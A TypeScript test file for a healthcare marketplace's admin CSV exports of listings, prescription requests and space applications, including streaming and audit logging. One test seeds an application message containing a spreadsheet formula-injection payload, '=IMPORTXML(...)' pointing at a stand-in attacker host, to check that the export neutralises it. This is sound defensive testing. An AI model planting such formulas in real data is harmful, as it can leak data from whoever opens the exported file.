import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { insertPrescriptionRequest } from '../../db/seed/seed-pharmacy-review.ts';
import type { RequestContext } from '../../plugins/request-context.ts';
import { addProperty, adminSession } from '../../test/admin-fixtures.ts';
import { api, createUser } from '../../test/api.ts';
import { type SignedProvider, signedProvider } from '../../test/marketplace-fixtures.ts';
import { propertiesCsv } from './admin-export.service.ts';
import { table, useExportWorld } from './admin-export-fixtures.ts';

/** Exporting listings, prescription requests and applications, and streaming a large export. */

const { t, db, exportAudits } = useExportWorld();

describe('admin CSV exports', () => {
  it('exports listings but not deleted ones, with the status the table shows, and a header alone when none match', async () => {
    const session = await adminSession(db());
    const host = await createUser(db(), { providerRole: 'STAN', organizationName: 'Lantern Wellness' });
    await addProperty(db(), host.organizationId!, 'Lantern suite A');
    await addProperty(db(), host.organizationId!, 'Lantern suite B', 'DRFT');
    await addProperty(db(), host.organizationId!, 'Lantern suite C', 'DLTD');

    const res = await api(t.app, {
      method: 'GET',
      url: '/api/admin/properties/export?search=lantern%20suite&sort=title&order=asc',
      session,
    });
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = table(res.body);
    expect(header).toEqual([
      'Listing ID',
      'Listing',
      'Practice',
      'Address',
      'City',
      'State',
      'ZIP',
      'Status',
      'Created',
    ]);
    expect(rows.map((r) => [r[1], r[2], r[4], r[6], r[7]])).toEqual([
      ['Lantern suite A', 'Lantern Wellness', 'Hoboken', '07030', 'Completed'],
      ['Lantern suite B', 'Lantern Wellness', 'Hoboken', '07030', 'Draft'],
    ]);

    const none = await api(t.app, {
      method: 'GET',
      url: '/api/admin/properties/export?search=nowhere-at-all',
      session,
    });
    expect(none.statusCode).toBe(200);
    expect(table(none.body)).toHaveLength(1);
    expect(
      (await exportAudits('properties')).map((a) => (a.details as { rowCount: number }).rowCount),
    ).toEqual([2, 0]);
  });

  it('exports one tab of prescription requests with its filters, the provider who decided, and audits the tab', async () => {
    const session = await adminSession(db());
    const patient = await createUser(db(), { isPatient: true, email: 'rx.export.one@example.test' });
    const other = await createUser(db(), { isPatient: true, email: 'rx.export.two@example.test' });
    const reviewer = await createUser(db(), { providerRole: 'HPRO' });
    const seed = (owner: string, approved: boolean) =>
      insertPrescriptionRequest(db(), {
        ownerUserId: owner,
        category: 'EDYS',
        medicationId: 'rxm_tadalafil_5mg_30',
        usState: 'NJ',
        zipcode: '07030',
        paidDaysAgo: 3,
        ...(approved ? { decision: { kind: 'approved', daysAgo: 1, reviewerUserId: reviewer.id } } : {}),
      });
    const approvedId = await seed(patient.id, true);
    await seed(patient.id, false);
    await seed(other.id, true);

    const res = await api(t.app, {
      method: 'GET',
      url: '/api/admin/prescriptions/export?tab=approved&email=rx.export.one',
      session,
    });
    expect(res.statusCode, res.body).toBe(200);
    const [header, ...rows] = table(res.body);
    expect(header).toEqual([
      'Request ID',
      'Name',
      'Email',
      'Treatment',
      'State',
      'Started',
      'Paid',
      'Approved',
      'Rejected',
      'Provider',
    ]);
    expect(rows).toHaveLength(1);
    expect(rows[0]![0]).toBe(approvedId);
    expect(rows[0]![2]).toBe('rx.export.one@example.test');
    expect(rows[0]![7]).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(rows[0]![8]).toBe('');
    expect(rows[0]![9]).toMatch(/^Test User\d+$/);
    expect((await exportAudits('prescriptions')).map((a) => a.details)).toEqual([
      {
        table: 'prescriptions',
        filters: { tab: 'approved', email: 'rx.export.one', sort: 'date' },
        rowCount: 1,
        complete: true,
      },
    ]);
  });

  it("exports one view of the space applications, every organization's or one's, neutralising the message", async () => {
    const session = await adminSession(db());
    const host = await signedProvider(t.app, 'Export Host Clinic');
    const otherHost = await signedProvider(t.app, 'Other Host Clinic');
    const room = await addProperty(db(), host.organizationId, 'Export consult room');
    const otherRoom = await addProperty(db(), otherHost.organizationId, 'Other consult room');
    const apply = async (who: SignedProvider, propertyId: string, messageToHost: string) => {
      const res = await api(t.app, {
        method: 'POST',
        url: '/api/propertyIntroduction',
        session: who.session,
        payload: { propertyId, organizationId: who.organizationId, messageToHost, howSoon: 'MNTH' },
      });
      expect(res.statusCode, res.body).toBe(200);
    };
    const seeker = await signedProvider(t.app, 'Seeking Family Practice');
    await apply(seeker, room, '=IMPORTXML("http://evil.example","//a") two mornings a week, please.');
    await apply(seeker, otherRoom, 'Looking for Friday afternoons.');

    const res = await api(t.app, {
      method: 'GET',
      url: `/api/admin/connections/export?viewCondition=pending&organizationId=${host.organizationId}`,
      session,
    });
    expect(res.statusCode, res.body).toBe(200);
    const [header, ...rows] = table(res.body);
    expect(header).toEqual([
      'Application ID',
      'Listing',
      'Host practice',
      'Listing address',
      'Applicant',
      'Applicant practice',
      'Email',
      'Phone',
      'Licensed in',
      'How soon',
      'Message',
      'Sent',
      'Approved',
      'Rejected',
      'Reason',
    ]);
    expect(rows.map((r) => [r[1], r[2], r[5], r[6]])).toEqual([
      ['Export consult room', 'Export Host Clinic', 'Seeking Family Practice', seeker.email],
    ]);
    expect(rows[0]![10]!.startsWith(`'=IMPORTXML(`)).toBe(true);

    const all = await api(t.app, { method: 'GET', url: '/api/admin/connections/export', session });
    expect(
      table(all.body)
        .slice(1)
        .map((r) => r[1])
        .sort(),
    ).toEqual(['Export consult room', 'Other consult room']);
    const none = await api(t.app, {
      method: 'GET',
      url: '/api/admin/connections/export?viewCondition=approved',
      session,
    });
    expect(table(none.body)).toHaveLength(1);
    expect(
      (await exportAudits('connections')).map((a) => (a.details as { rowCount: number }).rowCount),
    ).toEqual([1, 2, 0]);
  });

  it('streams: rows are read as the file is taken, and a reader who leaves stops the read, audited as cut short', async () => {
    const host = await createUser(db(), { providerRole: 'STAN', organizationName: 'Bulk Listing Co' });
    const TOTAL = 3_000;
    await sql`
      insert into property (id, organization_id, title, description, status, address_line_one, city, us_state,
                            zipcode, latitude, longitude, room_items)
      select 'bulk' || lpad(n::text, 13, '0'), ${host.organizationId}, 'Bulk room ' || n,
             'A room among many, for the export test.', 'LIST', n || ' Long Street', 'Hoboken', 'NJ', '07030',
             40.74, -74.03, '[]'
      from generate_series(1, ${TOTAL}) as n`.execute(db());
    const audits: Array<Record<string, unknown> | null | undefined> = [];
    const ctx = {
      db: db(),
      audit: async (entry: { details?: Record<string, unknown> | null }) => {
        audits.push(entry.details);
      },
    } as unknown as RequestContext;
    const query = { search: 'bulk room', sort: 'createdOn', order: 'desc', page: 1, pageSize: 20 } as const;

    // The first bytes come while most rows are still unread; leaving then ends the read and is recorded.
    const cut = propertiesCsv(ctx, query).body;
    const first = await new Promise<string>((resolve) =>
      cut.once('data', (chunk: Buffer) => resolve(String(chunk))),
    );
    cut.pause();
    expect(first.startsWith('Listing ID,Listing,')).toBe(true);
    await new Promise((r) => setTimeout(r, 200));
    expect(audits).toEqual([]);
    cut.destroy();
    for (let i = 0; i < 100 && audits.length === 0; i++) await new Promise((r) => setTimeout(r, 20));
    expect(audits).toHaveLength(1);
    const stopped = audits[0] as { rowCount: number; complete: boolean };
    expect(stopped.complete).toBe(false);
    expect(stopped.rowCount).toBeGreaterThan(0);
    expect(stopped.rowCount).toBeLessThanOrEqual(1_500);

    // Read to the end, every row arrives once, and the database connection is free again.
    let lines = 0;
    for await (const chunk of propertiesCsv(ctx, query).body) lines += String(chunk).split('\n').length - 1;
    expect(lines).toBe(TOTAL + 1);
    expect(audits[1]).toEqual({
      table: 'properties',
      filters: { search: 'bulk room', sort: 'createdOn', order: 'desc' },
      rowCount: TOTAL,
      complete: true,
    });
    await sql`select 1`.execute(db());
  });
});
